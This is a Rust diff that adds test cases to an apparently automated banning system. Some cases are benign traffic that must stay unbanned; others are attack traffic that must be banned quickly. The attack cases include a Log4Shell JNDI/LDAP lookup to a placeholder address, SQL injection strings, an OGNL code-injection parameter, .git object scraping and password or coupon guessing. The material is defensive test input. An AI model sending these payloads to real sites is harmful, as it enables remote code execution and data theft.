@@ -65,7 +65,40 @@ fn five_probes() -> Vec<Asked> {
         .into()
 }
 
-const STAY: [Kind; 11] = [
+const STAY: [Kind; 18] = [
+    ("a program with a wrong password that watches six things all along", 1800, |t| {
+        every(15, t, || (0..6).map(|n| get(format!("/metrics/{n}"), 401)).collect())
+    }),
+    ("covers by number, every second one missing", 20, |t| {
+        (0..8)
+            .map(|n| 8 * t + n)
+            .map(|n| get(format!("/cover/{n}"), if n % 2 == 0 { 200 } else { 404 }))
+            .collect()
+    }),
+    ("a player that looks for what belongs to its films", 60, |t| {
+        let film = |end: &str| format!("/films/{}/film{end}", word(t / 4));
+        let beside = [".nfo", "-poster.jpg", "-fanart.jpg", ".tbn", ".srt", ".sub", ".idx", ".ass"];
+        let found = get(film(".mkv"), 206);
+        every(4, t, || beside.iter().map(|end| get(film(end), 404)).chain([found]).collect())
+    }),
+    ("an installer of modules whose proxy has none", 120, |t| {
+        vec![get(format!("/{}.org/x/{}/@v/list", word(t % 7), word(t)), 404)]
+    }),
+    ("a page of comments without the writers' pictures", 60, |t| {
+        every(20, t, || {
+            let pictures = (0..70).map(|n| get(format!("/avatar/{}", hash(100 * t + n)), 404));
+            [get("/blog", 200)].into_iter().chain(pictures).collect()
+        })
+    }),
+    ("a library of films, most without a poster", 30, |t| {
+        every(10, t, || {
+            let poster = |n: i64| format!("/Items/{}/Images/Primary", &hash(100 * t + n)[..32]);
+            (0..90).map(|n| get(poster(n), if n % 3 == 0 { 200 } else { 404 })).collect()
+        })
+    }),
+    ("a game that loads its files", 120, |t| {
+        (0..50).map(|n| get(format!("/patch/{}.bin", hash(50 * t + n)), 200)).collect()
+    }),
     ("a compiler's cache, half empty", 120, |t| {
         let object = |n: i64| format!("/ccache/{}/{}", &hash(n)[..2], &hash(n)[2..]);
         (0..20).map(|n| get(object(20 * t + n), if n % 2 == 0 { 404 } else { 200 })).collect()
@@ -133,7 +166,46 @@ const STAY: [Kind; 11] = [
 ];
 
 /// With the seconds within which they must be banned.
-const BAN: [(Kind, i64); 6] = [
+const BAN: [(Kind, i64); 12] = [
+    (
+        ("a look-up in paths that do not exist", 60, |t| {
+            vec![get(format!("/{}/%24%7Bjndi:ldap:%2f%2f203.0.113.9%7D", word(t)), 404)]
+        }),
+        10,
+    ),
+    (
+        ("SQL in a parameter of a page that is served", 60, |t| {
+            let names = ["1'%20OR%201=1", "1%20UNION%20SELECT%202", "1+AND+SLEEP(5)", "1'+ORDER+BY+9--"];
+            vec![get(format!("/item?id={}&n={t}", names[t as usize % 4]), [200, 500][t as usize % 2])]
+        }),
+        20,
+    ),
+    (
+        ("code in a parameter of a page that is served", 60, |t| {
+            vec![get(format!("/contact?x=%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D&n={t}"), 200)]
+        }),
+        20,
+    ),
+    (
+        ("a repository that is served, file by file", 60, |t| {
+            vec![get(format!("/.git/objects/{}/{}", &hash(t)[..2], &hash(t)[2..]), 200)]
+        }),
+        30,
+    ),
+    (
+        ("passwords of the server's own, from a newcomer", 1200, |t| match t {
+            0 => vec![get("/", 200)],
+            1000.. if t % 3 > 0 => vec![get("/admin/", 401)],
+            _ => Vec::new(),
+        }),
+        1150,
+    ),
+    (
+        ("codes at a form that nobody used before", 200, |t| {
+            vec![("POST", "/cart/coupon".to_owned(), 422); 1 + t as usize % 2]
+        }),
+        90,
+    ),
     (
         ("a wrong password every 28 seconds", 900, |t| {
             every(28, t, || vec![("POST", "/wp-login.php".to_owned(), 200)])
